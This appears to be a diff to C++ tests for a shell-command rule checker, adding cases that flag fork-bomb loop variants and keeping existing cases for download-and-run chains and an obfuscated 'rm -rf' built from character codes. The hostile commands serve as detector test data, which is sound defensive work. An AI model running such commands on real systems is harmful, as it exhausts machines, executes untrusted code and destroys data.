@@ -85,6 +85,12 @@ TEST(ShellRights, BlanksBetweenExpansionsInQuotesStay) {
   ExpectNoRule({"a=x; b=y; echo \"$a $b\"", "a=x; b=y; mkdir \"$a $b\""});
 }
 
+TEST(ShellRights, LoopsWithoutEndHaveSeveralSpellings) {
+  ExpectRule("sh-fork-bomb", {"for ((;;)); do bash \"$0\" & done", "while [[ 1 ]]; do x & done",
+                              "while (( 1 )); do ./x & done"});
+  ExpectNoRule({"for ((i=0;i<3;i++)); do sleep 1 & done; wait"});
+}
+
 TEST(ShellRights, CopiesOfADownloadAreDownloads) {
   ExpectRule("sh-download-run", {"curl -o a http://x; install -m755 a ./b; ./b"});
   ExpectRule("sh-decoded-run", {"c=$(awk 'BEGIN{printf \"%c%c\",114,109}'); $c -rf x"});
